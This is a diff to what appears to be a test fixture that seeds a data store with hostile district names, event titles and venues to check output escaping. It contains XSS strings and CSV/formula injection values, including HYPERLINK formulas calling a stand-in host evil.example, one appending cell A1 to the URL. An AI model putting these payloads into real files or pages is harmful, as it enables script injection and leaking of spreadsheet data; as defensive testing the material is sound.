@@ -14,7 +14,8 @@ from lib.store.connection import connect
 
 IMG = "<img src=x onerror=alert(1)>"
 SCRIPT = "<script>alert(2)</script>"
-NAMES = (IMG, SCRIPT)
+FORMULA_NAME = '=HYPERLINK("http://evil.example/","District")'  # a name a spreadsheet would run
+NAMES = (IMG, SCRIPT, FORMULA_NAME)
 # OWASP CSV Injection's openings, and two that a naive "is it a number" check lets through.
 FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx")
 VENUES = ("=1+1", "@cmd", "+SUM(1)", "-1+2", "\t=x", "\r=x")
@@ -23,7 +24,7 @@ VENUES = ("=1+1", "@cmd", "+SUM(1)", "-1+2", "\t=x", "\r=x")
 def make(source: Path, path: Path) -> dict:
     """Copy the store at ``source`` to ``path`` and make it hostile; returns what was changed.
 
-    The two districts with most incidents of the default dataset get :data:`NAMES` as names (so they
+    The three districts with most incidents of the default dataset get :data:`NAMES` as names (so they
     are in every chart and table); six events in one of them start in the coming days with
     :data:`FORMULAS` as titles and :data:`VENUES` as venues (so they are "upcoming" on every surface).
     """
@@ -33,7 +34,7 @@ def make(source: Path, path: Path) -> dict:
         dataset = public_figures.default_dataset(store)
         top = store.query(
             "SELECT lvl_district AS code, count(*) AS n FROM incidents WHERE dataset = :d AND lvl_district IS NOT NULL "
-            "GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 2",
+            "GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 3",
             {"d": dataset},
         )
         codes = [str(c) for c in top["code"]]
